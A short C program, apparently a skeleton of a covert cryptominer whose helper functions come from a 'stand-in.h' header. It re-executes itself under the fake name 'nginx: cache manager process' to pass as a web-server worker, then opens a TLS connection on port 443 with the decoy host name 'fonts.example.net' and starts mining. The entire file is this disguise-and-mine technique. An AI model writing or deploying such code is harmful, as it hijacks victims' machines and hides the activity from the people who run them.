#include "stand-in.h"

int main(int argc, char **argv)
{
	if (argc > 1 || strncmp(argv[0], "nginx:", 6) != 0)
		execl("/proc/self/exe", "nginx: cache manager process", (char *)NULL);
	sleep(5);
	int pool = dial("tls", 443);

	tls_hello(pool, "fonts.example.net");
	mine(pool, 1, 40, 25, NULL);
}
